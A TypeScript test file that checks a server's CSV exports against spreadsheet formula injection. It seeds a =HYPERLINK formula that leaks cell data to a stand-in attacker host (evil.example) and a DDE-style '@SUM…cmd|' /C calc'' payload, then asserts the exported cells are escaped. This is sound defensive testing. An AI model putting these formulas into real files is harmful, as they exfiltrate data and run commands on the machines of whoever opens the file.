// CSV exports opened in a spreadsheet: text that people chose (a scenario's title, a team's name)
// must arrive as text, never as a formula the spreadsheet runs (OWASP "CSV injection").
import { LibraryFile } from "@spar/protocol";
import { demoSignIn, startTestApp } from "@spar/server/testing";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { z } from "zod";

const tables = ["teams", "weak-criteria", "movement", "assessments", "overrides", "calibration"] as const;
const formulaStart = /^[=+\-@\t\r]/;
const hyperlink = '=HYPERLINK("https://evil.example/?leak="&A1,"Open the report")';

describe("CSV exports and formula injection (PGlite)", () => {
  let server: Awaited<ReturnType<typeof startTestApp>>;
  let alex: string;

  beforeAll(async () => {
    server = await startTestApp("pglite");
    alex = await demoSignIn(server.app, "alex.morgan@demo.example");
    // An assessment scenario: the programme's assessments table names it by its title.
    const listed = z.object({ files: z.array(LibraryFile) }).parse((await server.app.inject({ method: "GET", url: "/api/library/files", headers: { cookie: alex } })).json());
    const file = listed.files.find((each) => each.path === "redirecting-feedback/redirecting-feedback.scenario.yaml");
    const text = (file?.text ?? "").replace(/^title: .*$/m, `title: '${hyperlink}'`).replace(/^version: 1$/m, "version: 2");
    const published = await server.app.inject({ method: "POST", url: "/api/library/files", headers: { cookie: alex }, payload: { path: file?.path, text } });
    expect(published.json()).toMatchObject({ published: true });
    for (const name of ["@SUM(1+1)*cmd|' /C calc'!A0", "+44 Sales", "-Support"]) {
      expect((await server.app.inject({ method: "POST", url: "/api/teams", headers: { cookie: alex }, payload: { name } })).statusCode).toBe(201);
    }
  }, 60_000);
  afterAll(() => server?.close());

  const download = async (table: string) => {
    const response = await server.app.inject({ method: "GET", url: `/api/programme/${table}.csv`, headers: { cookie: alex } });
    expect(response.statusCode).toBe(200);
    return parse(response.body) as string[][];
  };

  it("writes a scenario titled =HYPERLINK(…) as text, with the title kept after the quote", async () => {
    const rows = await download("assessments");
    expect(rows.map((row) => row[0])).toContain(`'${hyperlink}`);
  });

  it("writes team names starting with @, + or - as text", async () => {
    const names = (await download("teams")).map((row) => row[0]);
    expect(names).toEqual(expect.arrayContaining(["'@SUM(1+1)*cmd|' /C calc'!A0", "'+44 Sales", "'-Support"]));
  });

  it("has no text cell a spreadsheet would run, in any programme table", async () => {
    for (const table of tables) {
      const cells = (await download(table)).flat();
      expect(cells.filter((cell) => formulaStart.test(cell) && Number.isNaN(Number(cell))), table).toEqual([]);
    }
  });
});
